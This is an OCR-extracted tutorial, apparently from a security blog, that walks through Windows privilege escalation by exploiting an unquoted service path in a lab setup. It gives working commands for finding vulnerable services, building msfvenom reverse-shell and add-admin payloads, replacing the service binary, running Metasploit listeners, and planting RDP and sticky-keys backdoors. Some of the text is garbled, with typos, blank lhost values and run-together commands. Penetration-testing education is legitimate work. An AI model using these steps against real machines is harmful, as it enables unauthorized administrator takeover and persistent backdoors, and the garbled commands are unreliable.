[Easy] Windows Privilege Escalation via Unquoted Service Path

Network security

Overview of Unquated Service Path

In this article, we will demonstrate Windows privilege escalation via an Unquoted Service Path. During penetration testing, when we generate a command shell as a local user, we are unable to inspect restricted files or folders, hence the need to elevate privileges to gain administrative access.

Unquoted Service Path Vulnerability

This vulnerability is associated with the paths of executable files containing spaces in their filenames, where the filename is not enclosed in quotation marks (“”). Additionally, if the executable file has write permissions, attackers can replace it with a malicious .exe file to escalate administrator privileges.

How to Elevate Windows Privilege Escalation through Unquoted Service PathStep 1. Experimental Environment

Victim’s Machine: Windows 7

Attacker’s Machine: Kali Linux

First, we download and install a vulnerable application called “photodex proshow” on the Windows system. We found it on Exploit DB.

install photodex proshow

Next, we initiate the initial attack on the victim’s machine. We need to compromise the Windows machine at least once to obtain a Meterpreter session. As you can see, we already have a Meterpreter session from the victim. Now, let’s open a command shell from here.

As you can see, we have shell access as a local user and have obtained cmd with administrativeprivileges. We need to elevate its permissions. First, we can enumerate all services running on the victim’s machine and discover those services that are not enclosed in quotation marks:

bashCopy code

wmic service get name, displayname, pathname, startmode | findstr /i "auto" | findstr /i /v "c:\\windows\\" | findstr /i /v ""

So, we have listed the following path: C:\Program Files\Photodex\ProShow Producer\Scsiaccess.exe. As you can see, there are no quotation marks around the path, and there are no spaces in the filename.

Now let’s identifyfolder permissions using the following command:

icacls Scsiaccess.exe

As you can see, it has write permissions for everyone, meaning the user “raj” can overwrite this file.

Step 2. Privilege Escalation via Prepend-migrate

Now we can place any malicious .exe file in the same folder, and upon restarting the service, that file will be granted administrator privileges. Windows will launch this executable file instead of the genuine .exe.

Open a terminal in Kali Linux and enter the following command to generate the .exe payload using msfvenom:

msfvenom -p windows/meterpreter/reverse_tcp lhost= lport=1234 prependmigrate=true prepenmigrateprocess=explorer.exe -f exe > /root/Desktop/scsiaccess.exeThe above command will create a malicious .exe file on the desktop. Now, send this file to the victim. If the current process is killed, the payload will migrate its process; thus, if the victim kills the current process ID of the payload from their system, the attacker will not lose their session.

Now, replacing the genuine executable file with the malicious .exe, here I have renamed Scsiaccess.exe to Scsiaccess.exe.original and uploaded the malicious Scsiaccess.exe to the same folder, then rebooted the victim’s machine.

move scsiaccess.exe scsiaccess.exe.original
upload /root/Desktop/scsiaccess.exe

At the same time, we start the multi/handler listener in a new terminal to capture the Meterpreter session with administrator privileges.

use exploit/multi/handler
set payload windows/meterpreter/reverse_tcp
set lhost
set lport 1234

Alright, after a while, we have obtained a shellwith administrator privileges.

Step 3. Privilege Escalation via Adding User to Administrator Group

After generating the shell as alocal_user, we enumerated the list of all usernames with or without administrator privileges. So we found the user: “raaz” who is not a member of the admin group.

net user raaz

So we generated another .exe file that adds the user “raaz” to the administrators group. The name of our .exe file will be the same, which is Scsiaccess.exe.

msfvenom -p windows/exec CMD='net localgroup administrators raaz /add' -f exe > /root/Desktop/scsiaccess.exeNow repeat the above steps, replacing the genuine executable file from “applesi”.

If you look at the following image, you’ll notice that the user “raaz” has become a member of the Administrators group.

Step 4. Windows Privilege Escalation via RDP and Sticky Keys

Using msfvenom to generate an .exe with a similar name like Scsiaccess.exe, then transferring it to the victim’s machine, while simultaneously running a multi-handler using an autorun script. Once the service restarts, the RDP service will be enabled.

use exploit/multi/handlermsf exploit(multi/handler) set payload windows /meterpreter/reverse_tcpmsf exploit(multi/handler) set lhost exploit(multi/handler) set lport 1234msf exploit(multi/handler) set AutoRunScript post/windows/manage/enable_rdpmsf exploit(multi/handler) exploit

Similarly, we will set up an autorun script to enable sticky_keys after the service restarts.

msf exploit(multi/handler) set AutoRunScript post/windows/manage/sticky_keys
msf exploit(multi/handler) run

From the screenshot below, it can be seen that another Meterpreter session with administrativeprivileges (Session 3) has been opened. Now, let’s connect to the victim’s host via RDP.


Alright! Now press the shift key five times consecutively, and you’ll be able to access the command prompt with administrative privileges.Successfully Elevate Windows Privilege Escalation
Share this